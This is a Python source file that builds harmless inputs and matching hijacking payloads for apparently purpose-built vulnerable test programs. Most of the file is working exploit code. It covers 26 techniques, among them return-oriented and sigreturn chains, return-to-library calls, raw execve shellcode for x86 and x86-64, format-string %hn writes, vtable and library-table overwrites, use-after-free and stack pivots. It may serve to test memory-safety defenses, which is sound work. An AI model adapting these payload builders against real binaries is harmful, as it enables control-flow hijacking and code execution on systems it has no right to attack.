"""The forms of attack: harmless records of each program, and records that take it over."""

from __future__ import annotations

import random
import struct
from collections.abc import Callable, Iterator

from hijacks import HELPER, Form, HijackError, Program, output

# harmless records


def _text(most: int, least: int = 1) -> Callable[[random.Random, Program], bytes]:
    def made(chance: random.Random, program: Program) -> bytes:
        return bytes(chance.choices(b"abcdefghij klmn", k=chance.randrange(least, most + 1)))

    return made


def _title(chance: random.Random, program: Program) -> bytes:
    text = _text(20, 2)(chance, program)
    return b"!" + text if chance.random() < 0.4 else text


def _shape(chance: random.Random, program: Program) -> bytes:
    return chance.randbytes(2) + _text(20)(chance, program)


def _slot_values(chance: random.Random, program: Program) -> bytes:
    count = chance.randrange(1, 6)
    return b"".join(
        struct.pack("<i", chance.randrange(32)) + program.pack(chance.randrange(1000)) for _ in range(count)
    )


def _node_steps(chance: random.Random, program: Program) -> bytes:
    steps = b""
    for _ in range(chance.randrange(1, 5)):
        steps += b"n" + b"v" * chance.randrange(3)
        if chance.random() < 0.5:
            steps += b"t" + bytes(chance.choices(b"xyz", k=program.word + 24))
        steps += b"d."
    return steps


def _line(chance: random.Random, program: Program) -> bytes:
    text = _text(31)(chance, program)
    return text.ljust(32, b"\0") if chance.random() < 0.3 else text


def _format(chance: random.Random, program: Program) -> bytes:
    text = _text(80)(chance, program)
    return (b"l" if chance.random() < 0.5 else b"p") + text


def _table(chance: random.Random, program: Program) -> bytes:
    rows, columns = chance.randrange(1, 9), chance.randrange(1, 9)
    return struct.pack("<HH", rows, columns) + chance.randbytes(rows * columns + 2)


def _turn(chance: random.Random, program: Program) -> bytes:
    return bytes([chance.randrange(2)]) + _text(90)(chance, program)


def _job(chance: random.Random, program: Program) -> bytes:
    return _text(100)(chance, program)


def _value_steps(chance: random.Random, program: Program) -> bytes:
    steps = b""
    for _ in range(chance.randrange(1, 5)):
        which = chance.randrange(4)
        if chance.random() < 0.5:
            steps += bytes([ord("s"), which]) + program.pack(chance.randrange(10_000))
            steps += bytes([ord("a"), which]) + program.pack(0)
        else:
            steps += bytes([ord("d"), which]) + program.pack(chance.randrange(2))
            steps += bytes([ord("r"), which]) + program.pack(0)
    return steps


def _action(chance: random.Random, program: Program) -> bytes:
    numbers = [chance.randrange(1000) for _ in range(chance.randrange(5))]
    return bytes([chance.randrange(3)]) + program.pack(*numbers)


# hijacking records: whole words of the same, as compilers lay buffers out in many ways

_Made = Iterator[tuple[bytes, str | None]]


def _spray(name: str, size: int = 192) -> Callable[[Program], _Made]:
    def made(program: Program) -> _Made:
        yield program.packed(name) * (size // program.word), name

    return made


def _sled(chain: Callable[[Program], bytes]) -> Callable[[Program], _Made]:
    """Returns to a return, over and over, and then a chain."""

    def made(program: Program) -> _Made:
        # the longest first, so that it is the sled that is returned to
        for count in range(22, 7, -1):
            yield program.packed("gadget_ret") * count + chain(program), "gadget_ret"

    return made


def _library_chain(program: Program) -> bytes:
    path, words = _path(program), program.at("helper")
    call = program.stubs["execve"]
    if program.bits == 32:
        return program.pack(call, 0, path, words, 0)
    at = program.at
    return program.pack(
        at("gadget_pop_di"), path, at("gadget_pop_si"), words, at("gadget_pop_dx"), 0, call, 0
    )


def _call_chain(program: Program) -> bytes:
    path, words, at = _path(program), program.at("helper"), program.at
    if program.bits == 32:
        values = (("ax", 11), ("bx", path), ("cx", words), ("dx", 0))
    else:
        values = (("ax", 59), ("di", path), ("si", words), ("dx", 0))
    chain = (value for name, number in values for value in (at(f"gadget_pop_{name}"), number))
    return program.pack(*chain, at("gadget_syscall"))


def _frame_chain(program: Program) -> bytes:
    path, words, at = _path(program), program.at("helper"), program.at
    stack = at("document") + (1 << 15)
    if program.bits == 32:
        # struct sigcontext of i386
        frame = struct.pack(
            "<22I",
            *(0, 0, 0x2B, 0x2B, 0, 0, stack, stack, path, 0, words, 11, 0, 0, at("gadget_syscall"), 0x23),
            *(0x202, stack, 0x2B, 0, 0, 0),
        )
        return program.pack(at("gadget_pop_ax"), 119, at("gadget_syscall")) + frame + bytes(1024)
    # struct ucontext of x86-64: flags, link, stack, registers
    registers = {"di": path, "si": words, "dx": 0, "ax": 59, "sp": stack, "ip": at("gadget_syscall")}
    order = [f"r{n}" for n in range(8, 16)] + ["di", "si", "bp", "bx", "dx", "ax", "cx", "sp", "ip"]
    frame = struct.pack("<5Q", 0, 0, 0, 0, 0) + struct.pack("<17Q", *(registers.get(n, 0) for n in order))
    frame += struct.pack("<Q4H", 0x202, 0x33, 0, 0, 0x2B) + bytes(8 * 13)
    return program.pack(at("gadget_pop_ax"), 15, at("gadget_syscall")) + frame + bytes(128)


def _path(program: Program) -> int:
    """Where the name of the helper lies in the program, which lies where it is linked to."""
    data = program.file.read_bytes()
    at = data.index(HELPER.encode() + b"\0")
    for line in output("readelf", "-lW", str(program.file)).splitlines():
        words = line.split()
        if words[:1] == ["LOAD"]:
            offset, address, size = int(words[1], 16), int(words[2], 16), int(words[4], 16)
            if offset <= at < offset + size:
                return address + at - offset
    raise HijackError(f"{program.file}: holds no name of the helper")


def _code(program: Program) -> bytes:
    """Machine code that runs the helper."""
    path, words = _path(program), program.at("helper")
    if program.bits == 32:
        return (
            b"\xbb" + struct.pack("<I", path) + b"\xb9" + struct.pack("<I", words)
            + b"\x31\xd2\x31\xc0\xb0\x0b\xcd\x80"
        )  # fmt: skip
    return (
        b"\xbf" + struct.pack("<I", path) + b"\xbe" + struct.pack("<I", words)
        + b"\x31\xd2\x31\xc0\xb0\x3b\x0f\x05"
    )  # fmt: skip


def _code_chain(program: Program) -> bytes:
    return program.packed("gadget_jump_sp") + _code(program)


def _virtual(program: Program) -> _Made:
    fake = program.packed("maintenance", "maintenance")
    for base in range(16, 400):
        # the table lies at the begin of the record
        table = program.at("document") + base
        yield fake + program.pack(table) * 6, "maintenance"


def _library_entry(program: Program) -> _Made:
    index = (program.slots["puts"] - program.at("slots")) // program.word
    if program.slots["puts"] % program.word == program.at("slots") % program.word:
        yield struct.pack("<i", index) + program.packed("maintenance"), "maintenance"


def _long_jump(program: Program) -> _Made:
    stack = program.at("document") + (1 << 15)
    yield (
        b"!".ljust(32, b"a") + program.pack(stack, program.at("maintenance"), stack, stack, stack),
        "maintenance",
    )


def _after_free(program: Program) -> _Made:
    size = program.word + 24
    yield b"nvd" + b"t" + program.packed("maintenance").ljust(size, b"a") + b"v", "maintenance"


def _one_more(program: Program) -> _Made:
    # the 33rd byte becomes the index of the handler; the numbers begin at the fourth entry
    yield b"a" * 32 + bytes([10]) + b"a" * 7 + program.packed("maintenance") * 32, "maintenance"


def _format_writes(program: Program) -> _Made:
    target, end = program.at("maintenance"), program.at("end")
    halves = sorted((target >> shift & 0xFFFF, end + shift // 8) for shift in (0, 16))
    for first in range(4, 80):
        text, written = b"p", 1
        for number, (value, _) in enumerate(halves):
            text += b"%%%dc%%%d$hn" % ((value - written) % 65536 or 65536, first + number)
            written = value
        # addresses stand at a multiple of their size, behind the text
        place = -(-len(text) // program.word) * program.word
        yield text.ljust(place, b"a") + program.pack(*(place for _, place in halves)), "maintenance"


def _wrapped(program: Program) -> _Made:
    yield struct.pack("<HH", 256, 256) + program.packed("maintenance") * 40, "maintenance"


def _pool_code(program: Program) -> _Made:
    code = _code(program).ljust(56, b"\x90")
    yield code + program.pack(0x10000000), None


def _data_code(program: Program) -> _Made:
    # the third function is where the text lies
    yield bytes([2]) + _code(program).ljust(64, b"\x90"), None


def _jumps(program: Program) -> _Made:
    at, path, words, call = program.at, _path(program), program.at("helper"), program.stubs["execve"]
    if program.bits == 64:
        # each load takes what lies 8 words behind its entry of the table
        table = [at("gadget_load_di"), at("gadget_load_si"), at("gadget_clear_dx"), call]
        job = [at("gadget_begin"), *table, 0, 0, 0, 0, path, words]
    else:
        # arguments are pushed, the last one first, and what would be returned to
        table = [at("gadget_push")] * 4 + [call]
        job = [at("gadget_begin"), *table, 0, 0, 0, 0, words, path, 0]
    yield program.pack(*job).ljust(104, b"\0"), "gadget_begin"


def _pivoted(program: Program) -> _Made:
    # the chain stands behind the pointer
    yield (program.packed("gadget_pivot") + _call_chain(program)).ljust(104, b"\0"), "gadget_pivot"


def _confused(program: Program) -> _Made:
    yield b"s\x01" + program.packed("maintenance") + b"r\x01" + program.pack(0), "maintenance"


def _beyond(program: Program) -> _Made:
    yield bytes([5]) + program.packed("maintenance") * 8, "maintenance"


def _signal(program: Program) -> _Made:
    yield program.packed("maintenance") * 8 + b"a", "maintenance"


def _one_byte(program: Program) -> _Made:
    mark, other = program.at("draw_mark"), program.at("draw_helper")
    if mark >> 8 == other >> 8:
        yield b"a" * 24 + bytes([other & 0xFF]), "draw_helper"


def _context(program: Program) -> _Made:
    registers = bytearray(968 if program.bits == 64 else 364)
    stack = program.at("document") + (1 << 15)
    if program.bits == 64:
        # the 16th and 17th registers, and where the state of floating point lies
        struct.pack_into("<2Q", registers, 40 + 15 * 8, stack, program.at("maintenance"))
        struct.pack_into("<Q", registers, 224, stack + 4096)
    yield b"a" * 64 + bytes(registers), "maintenance"


def _thrown(program: Program) -> _Made:
    yield b"!" + b"a" * 7 + program.packed("in_restore") * 20, None


FORMS = (
    Form("return_address", _text(64), _spray("maintenance")),
    Form("return_to_library", _text(64), _sled(_library_chain)),
    Form("return_oriented", _text(64), _sled(_call_chain)),
    Form("signal_return", _text(64), _sled(_frame_chain)),
    Form("stack_code", _text(64), _sled(_code_chain), flags=("-no-pie", "-fno-pie", "-z", "execstack")),
    Form("function_pointer_stack", _text(40), _spray("maintenance", 64)),
    Form("function_pointer_heap", _text(40, 4), _spray("maintenance", 128)),
    Form("function_pointer_data", _text(31), _spray("maintenance", 48), attacked=("finish", "main")),
    Form("virtual_table", _shape, _virtual),
    Form("library_table", _slot_values, _library_entry, attacked=("finish", "main")),
    Form("long_jump", _title, _long_jump, attacked=("copy_title", "special")),
    Form("use_after_free", _node_steps, _after_free),
    Form("off_by_one", _line, _one_more),
    Form("format_string", _format, _format_writes, attacked=("finish", "main")),
    Form("integer_overflow", _table, _wrapped),
    Form("heap_code", _text(56), _pool_code),
    Form("data_code", _turn, _data_code),
    Form("jump_oriented", _job, _jumps),
    Form("stack_pivot", _job, _pivoted),
    Form("type_confusion", _value_steps, _confused),
    Form("table_index", _action, _beyond),
    Form("exit_list", _text(39), _spray("maintenance", 64), attacked=("finish", "main")),
    Form("signal_handler", _text(23), _signal, attacked=("handle", "finish", "special")),
    Form("partial_overwrite", _text(23), _one_byte, flags=("-pie", "-fpie")),
    Form("saved_context", _text(63), _context, bits=(64,)),
    Form("exception_frames", _title, _thrown, attacked=("copy_name", "special"), bits=(64,), suffix=".cpp"),
)
